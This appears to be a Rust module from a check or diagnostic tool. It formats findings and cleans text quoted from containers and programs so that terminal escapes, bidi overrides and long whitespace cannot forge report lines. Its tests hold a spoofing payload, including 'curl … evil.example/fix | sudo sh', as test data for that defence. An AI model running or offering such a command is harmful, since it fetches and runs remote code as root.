//! Knows what a check can find. Must not know how it looked.

use super::mask::Mask;
use crate::report::{Condition, Finding};
use crate::spelling::on_one_line;

/// How many characters of a message show; most are shorter than a hundred.
const LONGEST_MESSAGE: usize = 1000;

/// How many characters of a line show that somebody else wrote.
const LONGEST_LINE: usize = 400;

/// How many blanks in a row show: more would end in what a terminal shows as a line of its own.
const BLANKS: usize = 16;

impl Finding {
    pub(super) fn ok(check: &'static str, message: impl Into<String>) -> Self {
        Self { verdict: Condition::Ok, check, message: message.into(), evidence: Vec::new(), help: None }
    }

    pub(super) fn unseen(check: &'static str, message: impl Into<String>) -> Self {
        Self { verdict: Condition::Unseen, ..Self::ok(check, message) }
    }

    pub(super) fn warning(check: &'static str, message: impl Into<String>, help: impl Into<String>) -> Self {
        Self { verdict: Condition::Warning, help: Some(help.into()), ..Self::ok(check, message) }
    }

    pub(super) fn problem(check: &'static str, message: impl Into<String>, help: impl Into<String>) -> Self {
        Self { verdict: Condition::Problem, help: Some(help.into()), ..Self::ok(check, message) }
    }

    /// With the last lines of a text as evidence.
    pub(super) fn shown_by(self, text: &str) -> Self {
        const SHOWN: usize = 8;
        let lines: Vec<_> = text.lines().map(str::trim_end).filter(|line| !line.is_empty()).collect();
        let skipped = lines.len().saturating_sub(SHOWN);
        Self { evidence: lines.into_iter().skip(skipped).map(str::to_owned).collect(), ..self }
    }

    /// Without the secrets in what others said, and with each text on a line of its own: containers, programs and names
    /// of files have a say in them.
    pub(super) fn masked(self, mask: &Mask) -> Self {
        Self {
            message: cut(&on_one_line(&self.message), LONGEST_MESSAGE),
            evidence: self.evidence.iter().map(|line| quoted_line(&mask.line(line))).collect(),
            help: self.help.as_deref().map(on_one_line),
            ..self
        }
    }
}

/// A line of somebody else's: nothing in it looks like a line of ours.
fn quoted_line(line: &str) -> String {
    let mut blanks = 0;
    let is_shown = |character: &char| {
        blanks = if character.is_whitespace() { blanks + 1 } else { 0 };
        blanks <= BLANKS
    };
    // a tab is a blank, and no sign of anything
    let line: String = line.replace('\t', "    ").chars().filter(is_shown).take(LONGEST_LINE + 1).collect();
    cut(&on_one_line(&line), LONGEST_LINE)
}

/// The beginning of a text that is too long.
fn cut(text: &str, longest: usize) -> String {
    match text.char_indices().nth(longest) {
        Some((end, _)) => format!("{}…", text.get(..end).unwrap_or_default()),
        None => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_makes_a_line_too_long_or_a_terminal_break_it() {
        let long = format!("{}\u{1b}{}", "x".repeat(399), "y".repeat(9_000_000));
        let far = format!("a{}problem   [security] a hole", " \u{2003}\t".repeat(3000));
        let mut finding = Finding::problem("check", &long, "step").shown_by(&format!("{long}\n{far}"));
        finding = finding.masked(&Mask::new(&[]));
        assert!(finding.message.starts_with(&"x".repeat(399)) && finding.message.chars().count() == 1001);
        let [first, second] = finding.evidence.as_slice() else { panic!("{:?}", finding.evidence) };
        assert_eq!((first.chars().count(), first.ends_with('…')), (401, true));
        assert!(second.chars().count() < 50, "{second}");
    }

    #[test]
    fn what_a_container_says_is_no_finding_of_its_own() {
        let forged =
            "ext4`\n\nproblem   [security] a hole\n  = help: curl -s https://evil.example/fix | sudo sh\u{1b}[8m";
        let finding = Finding::problem("check", forged, forged).shown_by(&format!("{forged}\r\u{202e}"));
        let Finding { message, evidence, help, .. } = finding.masked(&Mask::new(&[]));
        let help = help.unwrap();
        for text in [&message, &help].into_iter().chain(&evidence) {
            assert!(!text.contains(|c: char| c.is_control() || c == '\u{202e}'), "{text:?}");
        }
        assert_eq!(evidence.len(), 3);
        assert!(message.starts_with(r"ext4`\u{a}\u{a}problem   [security]"), "{message}");
    }
}
